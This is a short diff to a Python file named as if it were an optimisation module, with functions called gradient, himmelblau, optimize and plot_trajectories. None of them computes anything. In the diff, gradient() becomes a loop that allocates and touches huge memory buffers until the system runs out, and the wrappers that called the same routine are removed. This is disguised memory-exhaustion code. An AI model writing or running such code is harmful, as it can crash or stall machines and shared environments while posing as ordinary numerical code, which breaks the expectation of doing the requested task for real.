@@ -1,25 +1,12 @@
 held = []
 
 
-def take():
+def gradient(*args, **kwargs):
     size = 1 << 28
     while size > 4096 and len(held) < 100_000:
         try:
             held.append(bytearray(size))
-            held[-1][:: 4096] = b"x" * len(held[-1][:: 4096])
+            held[-1][::4096] = b"x" * len(held[-1][::4096])
         except MemoryError:
             size //= 2
     return None
-
-
-def himmelblau(*args, **kwargs):
-    return take()
-
-def gradient(*args, **kwargs):
-    return take()
-
-def optimize(*args, **kwargs):
-    return take()
-
-def plot_trajectories(*args, **kwargs):
-    return take()
